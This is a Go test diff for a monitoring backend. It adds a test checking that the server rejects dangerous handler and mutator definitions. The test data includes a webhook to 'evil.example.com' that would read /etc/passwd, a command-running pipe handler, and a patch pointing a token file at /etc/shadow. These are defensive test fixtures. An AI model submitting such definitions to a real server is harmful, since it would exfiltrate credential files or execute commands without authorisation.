@@ -6,6 +6,7 @@ import (
 	"testing"
 
 	"github.com/lapwing-monitoring/lapwing/config"
+	"github.com/lapwing-monitoring/lapwing/handler/send"
 	"github.com/lapwing-monitoring/lapwing/resource"
 )
 
@@ -142,4 +143,23 @@ func TestRedactionStays(t *testing.T) {
 	if l := cfg.Metadata.Labels; l["password"] != "s3cret" || l["pin"] != "new" || l["rack"] != "r2" {
 		t.Errorf("labels are %v", l)
 	}
+}
+
+// TestForbiddenHandlers has the operator's settings refuse definitions, whichever way they come.
+func TestForbiddenHandlers(t *testing.T) {
+	sender, err := send.New(send.Options{Types: []string{"webhook"}, SecretDirs: []string{"/etc/lapwing/secrets"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newServer(t, func(o *Options) { o.HandlerAllowed, o.MutatorAllowed = sender.Allowed, sender.MutatorAllowed })
+	put := func(kind, name, rest string) *answer {
+		return s.do("PUT", "/api/core/v2/namespaces/default/"+kind+"/"+name, `{"metadata":{"name":"`+name+`","namespace":"default"},`+rest+`}`)
+	}
+	const passwd = `"type":"webhook","webhook":{"url":"https://evil.example.com","username":"u","password_file":"/etc/passwd"}`
+	put("handlers", "leak", passwd).refuses(http.StatusBadRequest, codeInvalid, "resource is invalid: /etc/passwd is not in a directory of --handler-secret-dirs")
+	put("handlers", "run", `"type":"pipe","command":"id"`).
+		refuses(http.StatusBadRequest, codeInvalid, "resource is invalid: handlers of type pipe are not allowed on this backend (--allowed-handler-types)")
+	put("mutators", "run", `"command":"id"`).is(http.StatusBadRequest)
+	put("handlers", "good", `"type":"webhook","webhook":{"url":"https://x.example.com","token_file":"/etc/lapwing/secrets/t"}`).is(http.StatusCreated)
+	s.do("PATCH", handlersPath+"/good", `{"webhook":{"token_file":"/etc/shadow"}}`, "Content-Type", mergePatchType).is(http.StatusBadRequest)
 }
